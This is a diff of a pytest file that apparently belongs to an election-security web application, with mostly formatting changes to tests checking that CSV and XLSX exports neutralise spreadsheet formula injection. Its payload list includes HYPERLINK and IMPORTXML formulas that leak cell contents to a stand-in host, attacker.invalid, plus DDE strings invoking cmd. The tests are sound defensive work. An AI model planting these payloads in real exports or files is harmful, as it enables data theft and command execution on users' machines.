@@ -27,7 +27,7 @@ from safelect.programs.engagements.models import Engagement
 
 PAYLOADS = [
     "=1+2",
-    "=HYPERLINK(\"http://attacker.invalid/?leak=\"&A1,\"Click for details\")",
+    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for details")',
     "=cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "+1+cmd|' /C calc'!A0",
@@ -35,7 +35,7 @@ PAYLOADS = [
     "\t=1+2",
     "\r=1+2",
     "'=already quoted",
-    "=IMPORTXML(CONCAT(\"http://attacker.invalid/?v=\", A2), \"//a\")",
+    '=IMPORTXML(CONCAT("http://attacker.invalid/?v=", A2), "//a")',
 ]
 
 
@@ -74,13 +74,25 @@ def _assert_no_formula_in_xlsx(data: bytes, payloads=PAYLOADS) -> None:
 @pytest.fixture
 def hostile_engagement(db):
     wisconsin = State.objects.get(usps="WI")
-    fields = ["location", "attendees", "discussion", "issues", "follow_up", "leadership_awareness",
-              "leadership_action", "next_engagement", "notes"]
+    fields = [
+        "location",
+        "attendees",
+        "discussion",
+        "issues",
+        "follow_up",
+        "leadership_awareness",
+        "leadership_action",
+        "next_engagement",
+        "notes",
+    ]
     created = []
     for start in range(0, len(PAYLOADS), len(fields)):
-        chunk = PAYLOADS[start:start + len(fields)]
-        created.append(engagements.create_engagement(Actor.system(), {
-            "state": wisconsin, "meeting_date": dt.date(2026, 3, 2), **dict(zip(fields, chunk))}))
+        chunk = PAYLOADS[start : start + len(fields)]
+        created.append(
+            engagements.create_engagement(
+                Actor.system(), {"state": wisconsin, "meeting_date": dt.date(2026, 3, 2), **dict(zip(fields, chunk, strict=False))}
+            )
+        )
     return created
 
 
@@ -89,16 +101,14 @@ def test_engagement_exports_are_formula_safe_and_the_database_keeps_the_text(hos
     stored = [hostile_engagement[0].text("location").internal()]
     assert stored == [PAYLOADS[0]]  # the original text, not the neutralised one
     for release in (False, True):
-        summary = engagement_exports.build_summary(Engagement.objects.filter(pk__in=[e.pk for e in hostile_engagement]),
-                                                   release=release)
+        summary = engagement_exports.build_summary(Engagement.objects.filter(pk__in=[e.pk for e in hostile_engagement]), release=release)
         _assert_no_formula_in_csv(engagement_exports.write(summary, "csv"))
         _assert_no_formula_in_xlsx(engagement_exports.write(summary, "xlsx"))
 
 
 @pytest.mark.django_db
 def test_engagement_csv_export_reads_back_unchanged(hostile_engagement):
-    summary = engagement_exports.build_summary(Engagement.objects.filter(pk__in=[e.pk for e in hostile_engagement]),
-                                               release=False)
+    summary = engagement_exports.build_summary(Engagement.objects.filter(pk__in=[e.pk for e in hostile_engagement]), release=False)
     preview = engagements.preview_file(engagement_exports.write(summary, "csv"), "export.csv")
     assert preview.changes_nothing
 
@@ -117,8 +127,9 @@ def test_engagement_export_page_serves_formula_safe_files(hostile_engagement):
 def test_obligations_csv_is_formula_safe():
     county = Organization.objects.filter(kind="local_election_agency", state__usps="WI").order_by("pk").first()
     for n, payload in enumerate(PAYLOADS):
-        obligations.open("S2261-4i", SubjectRef("sharing.incidentreport", f"x{n}", payload),
-                         dt.datetime.now(dt.timezone.utc) - dt.timedelta(hours=1), county)
+        obligations.open(
+            "S2261-4i", SubjectRef("sharing.incidentreport", f"x{n}", payload), dt.datetime.now(dt.UTC) - dt.timedelta(hours=1), county
+        )
     _, official = make_member("local_election_official", county)
     response = official.get("/obligations/export.csv")
     body = b"".join(response.streaming_content)
